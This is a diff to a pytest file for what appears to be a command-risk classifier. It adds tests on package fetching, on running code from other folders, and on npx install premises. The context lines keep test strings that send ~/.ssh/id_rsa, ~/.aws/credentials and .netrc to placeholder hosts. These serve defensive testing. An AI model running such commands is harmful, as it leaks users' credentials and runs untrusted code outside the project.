@@ -6,8 +6,9 @@ import pytest
 
 from assent.risk import Category
 from assent.risk.exposure import GIVING
+from assent.risk.provenance import FETCHING
 
-from .blocks import worst
+from .blocks import findings, worst
 
 SENT = ["{0} put ~/.ssh/id_rsa x://there", "{0} ~/.aws/credentials there:", "{0} --file=/home/user/.netrc x://there"]
 
@@ -17,3 +18,46 @@ SENT = ["{0} put ~/.ssh/id_rsa x://there", "{0} ~/.aws/credentials there:", "{0}
 def test_a_secret_given_to_what_sends_files_leaves_the_machine(program: str, frame: str) -> None:
     found = worst(frame.format(program))
     assert found.category is Category.Destroys, found.reason
+
+
+def fetching() -> list[str]:
+    """Every program with every subcommand by which it fetches packages."""
+    entries = [(program, entry) for program, text in FETCHING.items() for entry in text.split() or [""]]
+    return [f"{program} {entry.rstrip('+').replace(':', ' ')}".rstrip() for program, entry in entries]
+
+
+ALWAYS = {f"{program} {entry[:-1]}" for program, text in FETCHING.items() for entry in text.split() if entry[-1] == "+"}
+
+
+@pytest.mark.parametrize("command", fetching())
+def test_a_package_that_is_named_is_fetched_code_and_a_path_of_the_project_is_not(command: str) -> None:
+    assert worst(f"{command} example.com/left-pad").category >= Category.RunsFetchedCode
+    assert worst(f"{command} ./left-pad").category is not Category.RunsFetchedCode or command in ALWAYS
+
+
+ELSEWHERE = ["npm -C {0} run build", "npm --prefix {0} test", "go -C {0} run .", "mvn -f {0}/pom.xml package"]
+ELSEWHERE += ["pytest --rootdir={0}", "make -C {0}", "jest --config {0}/x.js", "go build -toolexec {0}/x ./..."]
+ELSEWHERE += ["make SHELL={0}/sh", "cd {0} && make", "(cd {0}; npm test)", "cargo test --manifest-path {0}/Cargo.toml"]
+ELSEWHERE += ["gradle -p {0} build", "python3 {0}/x.py", "bash {0}/x.sh", "env -C {0} make", "uv run --project {0} x"]
+
+
+@pytest.mark.parametrize("frame", ELSEWHERE)
+def test_code_of_another_folder_is_not_the_code_of_the_project(frame: str) -> None:
+    for folder in ("/tmp/evil", "../other", "/home/user/code/other"):
+        assert worst(frame.format(folder)).category >= Category.ModifiesSystem
+    for folder in ("sub", "/home/user/code/demo/sub"):
+        assert worst(frame.format(folder)).category <= Category.RunsProjectCode
+
+
+@pytest.mark.parametrize("command", ["npx tsc", "npx --yes tsc --noEmit", "npm exec tsc", "bunx tsc"])
+def test_what_may_be_installed_says_so(command: str) -> None:
+    premise = findings(command)[0].premise
+    assert premise is not None
+    assert (premise.installed, premise.category) == ("tsc", Category.RunsProjectCode)
+
+
+@pytest.mark.parametrize(
+    "command", ["npx tsc@5", "npx -p typescript tsc", "npm install tsc", "pnpm dlx tsc", "npm test"]
+)
+def test_what_is_fetched_in_any_case_has_no_premise(command: str) -> None:
+    assert all(finding.premise is None for finding in findings(command))
